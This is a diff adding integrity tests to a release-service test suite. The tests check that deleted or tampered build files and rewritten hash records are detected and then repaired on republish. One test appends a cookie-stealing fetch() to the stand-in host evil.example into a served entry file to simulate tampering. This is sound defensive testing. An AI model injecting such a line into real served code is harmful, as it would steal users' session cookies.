@@ -1,7 +1,8 @@
 // The release plane against a squad that reaches beyond what it owns, and against someone who edits the
 // database behind the service's back: ownership, the audit chain.
 import assert from 'node:assert/strict';
-import { readdirSync, readFileSync } from 'node:fs';
+import { appendFileSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import { verifyAuditChain } from '@gaido/release-core/audit-chain';
 import { readBuildDir, uploadBody } from '@gaido/release-core/build-files';
@@ -76,6 +77,72 @@ describe('ownership', () => {
     assert.deepEqual([error.status, error.code], [403, 'not-owner']);
     assert.match(error.message, /gus@gaido\.test \(releaser\) may not record host: its owners are platform/);
     assert.equal((await client().host('staging')).record.commit, 'abc123');
+  });
+});
+
+describe('the store proves itself', () => {
+  it('names a deleted chunk and an altered entry file in verify and status, and republishing the identical build restores them', async () => {
+    const body = upload({ remote: 'mfe_onboarding', label: 'store', exposes: [] });
+    const { release } = await client('releaser').publish('mfe_onboarding', body);
+    await client('releaser').pin('staging', 'mfe_onboarding', {
+      version: release.version,
+      expectedRevision: await client().revisionOf('staging', 'mfe_onboarding'),
+    });
+    const mine = async () =>
+      (await client('releaser').verifyStore({ environments: ['staging'] })).find(
+        (version) => version.remote === 'mfe_onboarding',
+      );
+    assert.deepEqual([(await mine()).ok, (await mine()).files], [true, Object.keys(release.files).length]);
+
+    const dir = join(svc.artifactsDir, 'mfe_onboarding', release.version);
+    rmSync(join(dir, 'static', 'js', 'page.js'));
+    appendFileSync(join(dir, 'remoteEntry.js'), ';fetch("https://evil.example/?" + document.cookie);');
+    const damaged = await mine();
+    assert.deepEqual(
+      [damaged.ok, damaged.missing, damaged.altered, damaged.environments],
+      [false, ['static/js/page.js'], ['remoteEntry.js'], ['staging']],
+    );
+    const row = (await client('releaser').status({ environments: ['staging'] })).find(
+      (r) => r.remote === 'mfe_onboarding',
+    );
+    assert.deepEqual(
+      [row.store.ok, row.store.missing, row.store.altered],
+      [false, ['static/js/page.js'], ['remoteEntry.js']],
+    );
+
+    const again = await client('releaser').publish('mfe_onboarding', body);
+    assert.deepEqual(
+      [again.created, again.restored.sort()],
+      [false, ['remoteEntry.js', 'static/js/page.js']],
+    );
+    assert.equal((await mine()).ok, true);
+    assert.ok(existsSync(join(dir, 'static', 'js', 'page.js')));
+    const [entry] = (await client('admin').audit({ remote: 'mfe_onboarding' })).slice(-1);
+    assert.deepEqual(
+      [entry.action, entry.by, entry.missing, entry.altered],
+      ['repair', 'rita@gaido.test', ['static/js/page.js'], ['remoteEntry.js']],
+    );
+    const unchanged = await client('releaser').publish('mfe_onboarding', body);
+    assert.deepEqual(unchanged.restored, []);
+  });
+
+  it("names a store whose record of a version's files was rewritten, which is what the CDN serves by", async () => {
+    const { release } = await client('releaser').publish(
+      'mfe_onboarding',
+      upload({ remote: 'mfe_onboarding', label: 'record', exposes: [] }),
+    );
+    const file = join(svc.artifactsDir, 'mfe_onboarding', release.version, '.record.json');
+    const record = JSON.parse(readFileSync(file, 'utf8'));
+    record.files['remoteEntry.js'] = `sha384-${'A'.repeat(64)}`;
+    writeFileSync(file, JSON.stringify(record));
+    const [checked] = await client('releaser').verifyStore({
+      remote: 'mfe_onboarding',
+      version: release.version,
+    });
+    assert.deepEqual(
+      [checked.ok, checked.record, checked.missing, checked.altered],
+      [false, 'altered', [], []],
+    );
   });
 });
 
